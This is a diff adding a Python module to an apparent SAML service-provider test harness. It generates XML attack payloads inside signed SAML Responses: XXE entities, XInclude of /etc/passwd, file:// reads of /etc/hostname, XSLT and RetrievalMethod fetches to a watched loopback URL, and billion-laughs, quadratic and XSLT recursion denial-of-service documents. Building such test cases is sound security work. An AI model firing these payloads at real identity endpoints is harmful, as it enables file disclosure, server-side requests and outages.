@@ -1,0 +1,185 @@
+"""XML: DTDs, entities, XInclude, XSLT, RetrievalMethod and parser limits."""
+from __future__ import annotations
+
+import secrets
+
+from lxml import etree
+
+from ..builder import DS, SAML, q
+from . import Fault, FaultContext, register, register_factory
+from ._common import _asig, _assertion, _assertion_signed, _doctype, _iter_tag, _sig
+
+
+XSLT_NS = "http://www.w3.org/1999/XSL/Transform"
+XSLT_TRANSFORM = "http://www.w3.org/TR/1999/REC-xslt-19991116"
+
+
+def _xslt(root: etree._Element, ctx: FaultContext) -> None:
+    url = ctx.idp.oob_url(ctx.notes.setdefault("oob_token", secrets.token_hex(8)), "xslt")
+    ctx.notes["oob_url"] = url
+    target = _sig(_assertion(root)) if root.find(q(SAML, "Assertion")) is not None else None
+    if target is None:
+        target = _sig(root)
+    if target is None:
+        raise ValueError("xslt-transform needs a signature (sign the assertion or the response)")
+    transforms = _iter_tag(target, q(DS, "Transforms"))[0]
+    t = etree.SubElement(transforms, q(DS, "Transform"), Algorithm=XSLT_TRANSFORM)
+    ss = etree.SubElement(t, q(XSLT_NS, "stylesheet"), nsmap={"xsl": XSLT_NS}, version="1.0")
+    tpl = etree.SubElement(ss, q(XSLT_NS, "template"), match="/")
+    etree.SubElement(tpl, q(XSLT_NS, "copy-of"), select=f"document('{url}')")
+
+
+register(Fault("xslt-transform",
+               "An XSLT Transform in the signature's Reference that fetches a loopback URL the IdP watches",
+               ("XML-08", "XML-10"), signed=_xslt))
+
+
+def _dtd_harmless(xml: bytes, ctx: FaultContext) -> bytes:
+    return _doctype(xml, b"<!DOCTYPE samlp:Response [<!ELEMENT samlp:Response ANY>]>")
+
+
+register(Fault("dtd-harmless", "A harmless internal DTD before the (validly signed) Response", ("XML-01", "SAML2Int SDP-G03"),
+               bytes_=_dtd_harmless))
+
+
+def _dtd_entity(xml: bytes, ctx: FaultContext) -> bytes:
+    import html
+
+    name_id = ctx.spec.user.name_id
+    esc = html.escape(name_id, quote=False).encode()
+    needle = b">" + esc + b"</saml:NameID>"
+    if needle not in xml:
+        raise ValueError("NameID text not found for the entity reference")
+    value = html.escape(name_id, quote=True).encode()
+    xml = xml.replace(needle, b">&nameid;</saml:NameID>", 1)
+    return _doctype(xml, b'<!DOCTYPE samlp:Response [<!ENTITY nameid "' + value + b'">]>')
+
+
+register(Fault("dtd-internal-entity",
+               "Internal DTD entity whose value is the NameID, referenced in NameID (signature valid once expanded)",
+               ("XML-01", "XML-05"), bytes_=_dtd_entity))
+
+
+@register_factory("xxe-external",
+                  "External parameter entity pointing at a loopback URL the IdP watches (a fetch by the SP is recorded)",
+                  ("XML-02", "XML-04", "CVE-2016-10149"), general=False)
+def _xxe(general: bool) -> Fault:
+    def b(xml: bytes, ctx: FaultContext) -> bytes:
+        token = ctx.notes.setdefault("oob_token", secrets.token_hex(8))
+        url = ctx.idp.oob_url(token, "xxe")
+        ctx.notes["oob_url"] = url
+        if general:
+            xml = xml.replace(b"</saml:NameID>", b"&xxe;</saml:NameID>", 1)
+            return _doctype(xml, f'<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "{url}">]>'.encode())
+        return _doctype(xml, f'<!DOCTYPE samlp:Response [<!ENTITY % xxe SYSTEM "{url}"> %xxe;]>'.encode())
+
+    return Fault("", "", bytes_=b)
+
+
+def _retrieval(root: etree._Element, ctx: FaultContext) -> None:
+    url = ctx.idp.oob_url(ctx.notes.setdefault("oob_token", secrets.token_hex(8)), "retrieval")
+    ctx.notes["oob_url"] = url
+    for ki in _iter_tag(root, q(DS, "KeyInfo")):
+        for c in list(ki):
+            ki.remove(c)
+        etree.SubElement(ki, q(DS, "RetrievalMethod"), URI=url,
+                         Type="http://www.w3.org/2000/09/xmldsig#X509Data")
+
+
+register(Fault("retrieval-method", "KeyInfo replaced by a RetrievalMethod pointing at a loopback URL the IdP watches",
+               ("XML-12",), signed=_retrieval))
+
+
+@register_factory("dtd-billion-laughs", "Nested internal entities (10 per level) referenced in an AttributeValue",
+                  ("XML-05", "CVE-2016-10149"), levels=9)
+def _laughs(levels: int) -> Fault:
+    def b(xml: bytes, ctx: FaultContext) -> bytes:
+        ents = ['<!ENTITY lol0 "lol">'] + [
+            f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, int(levels) + 1)
+        ]
+        xml = xml.replace(b"</saml:AttributeValue>", f"&lol{int(levels)};</saml:AttributeValue>".encode(), 1)
+        return _doctype(xml, ("<!DOCTYPE samlp:Response [" + "".join(ents) + "]>").encode())
+
+    return Fault("", "", bytes_=b)
+
+
+@register_factory("xxe-file", "External general entity SYSTEM file:// referenced in NameID (file disclosure)",
+                  ("XML-03",), path="/etc/hostname")
+def _xxe_file(path: str) -> Fault:
+    def b(xml: bytes, ctx: FaultContext) -> bytes:
+        xml = xml.replace(b"</saml:NameID>", b"&xxe;</saml:NameID>", 1)
+        return _doctype(xml, f'<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file://{path}">]>'.encode())
+
+    return Fault("", "", bytes_=b)
+
+
+@register_factory("xinclude", "An xi:include of a local file inside the first AttributeValue (after signing)",
+                  ("XML-07",), href="file:///etc/passwd")
+def _xinclude(href: str) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        av = next(_assertion(root).iter(q(SAML, "AttributeValue")))
+        etree.SubElement(av, "{http://www.w3.org/2001/XInclude}include", href=href, parse="text",
+                         nsmap={"xi": "http://www.w3.org/2001/XInclude"})
+
+    return Fault("", "", signed=signed)
+
+
+@register_factory("oversize", "The document padded with a comment after the root to N bytes (signatures unaffected)",
+                  ("XML-13", "CVE-2025-54572"), size=20_000_000)
+def _oversize(size: int) -> Fault:
+    def b(xml: bytes, ctx: FaultContext) -> bytes:
+        pad = max(0, int(size) - len(xml) - 8)
+        return xml + b"\n<!--" + b"x" * pad + b"-->"
+
+    return Fault("", "", bytes_=b)
+
+
+@register_factory("deep-nesting", "N nested elements inserted at the end of the Response (parser depth limits)",
+                  ("XML-14",), depth=100_000)
+def _deep(depth: int) -> Fault:
+    def b(xml: bytes, ctx: FaultContext) -> bytes:
+        n = int(depth)
+        return xml.replace(b"</samlp:Response>", b"<x>" * n + b"</x>" * n + b"</samlp:Response>")
+
+    return Fault("", "", bytes_=b)
+
+
+def _utf16(xml: bytes, ctx: FaultContext) -> bytes:
+    body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
+    return ("<?xml version='1.0' encoding='UTF-16'?>" + body.decode("utf-8")).encode("utf-16")
+
+
+register(Fault("encoding-utf16", "The whole document in UTF-16 with a BOM (same content; signatures still valid)",
+               ("XML-15",), bytes_=_utf16, stage_override="pre-sign"))
+
+
+@register_factory("dtd-quadratic", "One large internal entity referenced many times in an AttributeValue (quadratic blowup)",
+                  ("XML-06",), size=100_000, count=10_000)
+def _quadratic(size: int, count: int) -> Fault:
+    def b(xml: bytes, ctx: FaultContext) -> bytes:
+        xml = xml.replace(b"</saml:AttributeValue>", b"&a;" * int(count) + b"</saml:AttributeValue>", 1)
+        return _doctype(xml, b'<!DOCTYPE samlp:Response [<!ENTITY a "' + b"x" * int(size) + b'">]>')
+
+    return Fault("", "", bytes_=b)
+
+
+def _xslt_dos(root: etree._Element, ctx: FaultContext) -> None:
+    transforms = _iter_tag(_asig(root), q(DS, "Transforms"))[0]
+    t = etree.SubElement(transforms, q(DS, "Transform"), Algorithm=XSLT_TRANSFORM)
+    ss = etree.SubElement(t, q(XSLT_NS, "stylesheet"), nsmap={"xsl": XSLT_NS}, version="1.0")
+    main = etree.SubElement(ss, q(XSLT_NS, "template"), match="/")
+    call = etree.SubElement(main, q(XSLT_NS, "call-template"), name="d")
+    etree.SubElement(call, q(XSLT_NS, "with-param"), name="n", select="27")
+    d = etree.SubElement(ss, q(XSLT_NS, "template"), name="d")
+    etree.SubElement(d, q(XSLT_NS, "param"), name="n")
+    when = etree.SubElement(etree.SubElement(d, q(XSLT_NS, "choose")), q(XSLT_NS, "when"), test="$n > 0")
+    for _ in range(2):
+        c = etree.SubElement(when, q(XSLT_NS, "call-template"), name="d")
+        etree.SubElement(c, q(XSLT_NS, "with-param"), name="n", select="$n - 1")
+
+
+register(Fault("xslt-dos", "An XSLT Transform with an exponential recursive template (2^27 calls) in the Assertion signature",
+               ("XML-09",), signing=_assertion_signed(), signed=_xslt_dos))
+
+
+# ============================================================================= namespace confusion (ruby-saml class)
